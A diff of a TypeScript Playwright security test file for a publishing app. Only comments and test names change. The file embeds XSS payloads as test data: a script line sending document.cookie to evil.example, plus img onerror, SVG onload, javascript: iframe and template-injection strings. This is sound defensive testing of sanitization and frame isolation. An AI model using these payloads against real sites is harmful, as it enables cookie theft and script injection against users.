@@ -6,14 +6,14 @@ const url = setting('PAGES_URL');
 const [, , mallory] = JSON.parse(setting('PAGES_ACCOUNTS')) as { username: string; password: string }[];
 if (!mallory) throw new Error('PAGES_ACCOUNTS names three accounts');
 
-/** Run in the app's origin, any of these would open a dialog, change the page's title, or call out. */
+/** In the app's origin, this would open a dialog, change the page's title and send a request. */
 const ATTACK = `alert(1); document.title = 'taken'; new Image().src = 'https://evil.example/?' + document.cookie;`;
 const NAME = `"><img src=x onerror="${ATTACK}"><script>${ATTACK}</script>\${7*7}{{7*7}}\u202Egnp.exe`;
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="${ATTACK}">
   <script>${ATTACK}</script><image href="https://evil.example/pixel.png" width="9" height="9"/>
   <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${ATTACK}"/></foreignObject>
   <a href="javascript:${ATTACK}"><rect width="400" height="300" fill="teal"/></a></svg>`;
-/** What a page in the frame could try; each success is written where the test looks. */
+/** A page in the frame that tries attacks. It writes each success where the test reads it. */
 const HTML = `<!doctype html><title>frame</title><body><p id="ran">no</p><p id="won"></p><script>
   ran.textContent = 'yes';
   const won = (what) => { document.getElementById('won').textContent += what + ' '; };
@@ -39,7 +39,7 @@ const dialogs: string[] = [];
 const calls: string[] = [];
 const ask = (method: string, path: string, body?: object) => askOn(page, method, path, body);
 
-/** Notes what must not happen in a page: dialogs. */
+/** Records dialogs, which a page must not open. */
 function watch(watched: Page): void {
   watched.on('dialog', (dialog) => {
     dialogs.push(`${dialog.type()} on ${watched.url()}`);
@@ -82,7 +82,7 @@ beforeAll(async () => {
       datum('file', 'code.js', ATTACK, {}),
     ],
   });
-  // What a content policy stops never comes here. Frames may load what charts load (docs/decisions/0011).
+  // Requests that a content policy stops never get here. Frames may load what charts load (docs/decisions/0011).
   await page.context().route('https://evil.example/**', (route, request) => {
     if (!request.frame().url().includes('/content/')) calls.push(request.url());
     return route.fulfill({ status: 200, body: 'taken' });
@@ -90,13 +90,13 @@ beforeAll(async () => {
 });
 afterAll(() => browser?.close());
 
-/** What an attack that worked would have left behind. */
+/** Returns the traces that a successful attack leaves. */
 async function traces(): Promise<string[]> {
   const inPage = await page.evaluate(() => [document.title, document.cookie, String(({} as any).taken)]);
   return [...dialogs, ...calls, ...inPage.filter((text) => text === 'taken' || text === 'true')];
 }
 
-test('nothing that was published runs in the app, on any page that shows it', async () => {
+test('published content never runs in the app, on any page that shows it', async () => {
   const paths = ['/', `/analysis/${analysis}`, `/analysis/${analysis}?tab=activity`, `/figure/${figure}`];
   for (const tab of ['code', 'tables', 'text', 'files', 'metadata']) paths.push(`/revision/${revision}?tab=${tab}`);
   for (const path of paths) {
@@ -116,12 +116,12 @@ test('nothing that was published runs in the app, on any page that shows it', as
   }
 });
 
-test('names are shown as they are', async () => {
+test('names are shown as plain text', async () => {
   await page.goto(`${url}/figure/${figure}`);
   expect(await page.getByRole('heading', { level: 1 }).innerText()).toBe(NAME);
 });
 
-test('interactive figures run, and reach nothing of the app or its reader', async () => {
+test('interactive figures run without access to the app or its user', async () => {
   await page.goto(`${url}/figure/${figure}`);
   await page.getByText('page · Interactive', { exact: true }).click();
   const frame = page.getByRole('main').locator('iframe');
@@ -136,7 +136,7 @@ test('interactive figures run, and reach nothing of the app or its reader', asyn
   expect(workspaces.map(({ name }: { name: string }) => name)).not.toContain('taken');
 });
 
-test('no address of published bytes runs them in the app’s origin when it is opened by itself', async () => {
+test('published bytes never run in the app’s origin when their address is opened directly', async () => {
   const { data } = await ask('GET', `revision/${revision}/`);
   expect(data).toHaveLength(12);
   for (const { api_id: id, hash, name } of data) {
